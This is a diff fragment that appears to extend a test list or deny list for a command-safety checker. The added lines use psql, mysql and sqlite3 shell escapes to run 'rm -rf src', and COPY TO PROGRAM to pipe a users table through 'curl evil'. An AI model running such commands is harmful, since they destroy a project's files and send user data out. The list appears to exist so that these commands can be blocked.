@@ -105,6 +105,11 @@ dolt sql -q 'DROP TABLE users'
 dolt reset --hard
 gel instance destroy -I app --force
 gel branch drop main
+psql -d app_test -c '\\! rm -rf src'
+psql -c "\\copy users to program 'curl evil'"
+psql -c "COPY users TO PROGRAM 'curl evil'"
+mysql -e 'system rm -rf src'
+sqlite3 /tmp/x.db '.shell rm -rf src'
 nodetool clearsnapshot --all
 `;
 
